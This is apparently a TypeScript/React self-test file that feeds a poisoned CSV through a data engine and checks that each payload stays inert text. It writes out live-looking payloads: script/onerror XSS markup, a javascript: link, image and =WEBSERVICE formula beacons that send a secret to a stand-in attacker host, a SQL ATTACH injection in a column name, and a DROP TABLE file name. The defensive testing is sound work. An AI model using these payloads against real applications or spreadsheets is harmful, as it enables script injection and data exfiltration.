import { flushSync } from 'react-dom';
import { createRoot } from 'react-dom/client';
import type { Attack, AttackOutcome } from '../../core/attack.ts';
import { toCsv } from '../../core/delimited.ts';
import type { DataEngine } from '../../core/engine.ts';
import { newId } from '../../core/id.ts';
import type { ResultSet } from '../../core/result-set.ts';
import { startTurn } from '../../core/turn.ts';
import { AnswerText } from '../chat/answer-text.tsx';
import { columnViews } from '../findings/cell-view.ts';
import { PlainTable } from '../findings/plain-table.tsx';
import type { proofWords } from './words.ts';

type FileWords = typeof proofWords.file;

const somewhere = 'https://attacker.invalid/';
const markup = `<img src="${somewhere}?secret=42" onerror="window.stolen = 42"><script>window.stolen = 42</script>`;
const link = `[open me](javascript:alert(42)) ![](${somewhere}?secret=42)`;
const formula = `=WEBSERVICE("${somewhere}?secret="&A1)`;
const statement = `"); ATTACH '${somewhere}' AS other; --`;

const poison = [markup, link, formula, statement];
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const csv = [`id,${quoted(statement)}`, ...poison.map((text, index) => `${index},${quoted(text)}`)].join(
  '\r\n',
);

type Judge = (result: ResultSet, words: FileWords) => AttackOutcome | Promise<AttackOutcome>;

/** Each opens the same file, in the way in which a file is opened, and looks at one thing that could come of it. */
export function fileAttacks(engine: DataEngine, words: () => FileWords): readonly Attack[] {
  const opened = (judge: Judge) => async () => judge(await throughTheEngine(engine), words());
  return [
    {
      id: 'file-statement',
      runner: 'file',
      title: 'Hide SQL in the name of a column',
      code: statement,
      attempt: opened(judgeColumn),
    },
    {
      id: 'file-markup',
      runner: 'file',
      title: 'Hide a script and a picture in cells, for tables and answers to draw',
      code: `${markup}\n${link}`,
      attempt: opened(judgeDrawn),
    },
    {
      id: 'file-formula',
      runner: 'file',
      title: 'Hide a formula that a spreadsheet would run in an exported table',
      code: formula,
      attempt: opened(judgeExported),
    },
  ];
}

async function throughTheEngine(engine: DataEngine): Promise<ResultSet> {
  const { signal } = new AbortController();
  const taken = await engine.tableNames();
  const file = new File([csv], `'; DROP TABLE data; --.csv`);
  const { tables } = await engine.ingest(file, { signal, onProgress: () => undefined, taken });
  const names = tables.map(({ name }) => name);
  try {
    const [name = ''] = names;
    return await engine.query(`SELECT * FROM "${name.replaceAll('"', '""')}" ORDER BY 1`);
  } finally {
    for (const name of names) await engine.dropTable(name);
  }
}

function judgeColumn({ columns, rows }: ResultSet, words: FileWords): AttackOutcome {
  const isText = columns.some(({ name }) => name === statement) && rows.length === poison.length;
  return isText
    ? { kind: 'stopped', said: words.isName }
    : { kind: 'through', got: words.otherwise(rows.length, columns.map(({ name }) => name).join(', ')) };
}

function judgeExported(result: ResultSet, words: FileWords): AttackOutcome {
  const line = toCsv(result)
    .split('\r\n')
    .find((each) => each.includes('WEBSERVICE'));
  return line?.includes(`'=WEBSERVICE`) === true
    ? { kind: 'stopped', said: words.isExportedAsText(line) }
    : { kind: 'through', got: line ?? words.isNotExported };
}

const settleMs = 300;
const dangerous =
  'script, img, iframe, object, embed, form, a, [onerror], [onload], [onclick], [src], [href]';

/** Draws the cells with the components that draw results and answers, and looks at what became of them. */
async function judgeDrawn(result: ResultSet, words: FileWords): Promise<AttackOutcome> {
  const stage = document.createElement('div');
  stage.hidden = true;
  document.body.append(stage);
  const root = createRoot(stage);
  flushSync(() => root.render(<Drawn result={result} />));
  await new Promise((resolve) => setTimeout(resolve, settleMs));
  const made = [...stage.querySelectorAll(dangerous)].map((element) => element.outerHTML);
  const isThere = poison.every((text) => stage.textContent.includes(text));
  root.unmount();
  stage.remove();
  if (made.length > 0 || 'stolen' in window) return { kind: 'through', got: made.join(' ') };
  if (!isThere) throw new Error(words.isNotDrawn);
  return { kind: 'stopped', said: words.isText };
}

function Drawn({ result }: { readonly result: ResultSet }) {
  const paragraphs = poison.map((text) => [{ text, strong: true }]);
  return (
    <>
      <PlainTable label="Poisoned" views={columnViews(result)} rows={result.rows} />
      <AnswerText text={paragraphs} turn={startTurn(newId(), newId(), markup, 0)} />
    </>
  );
}
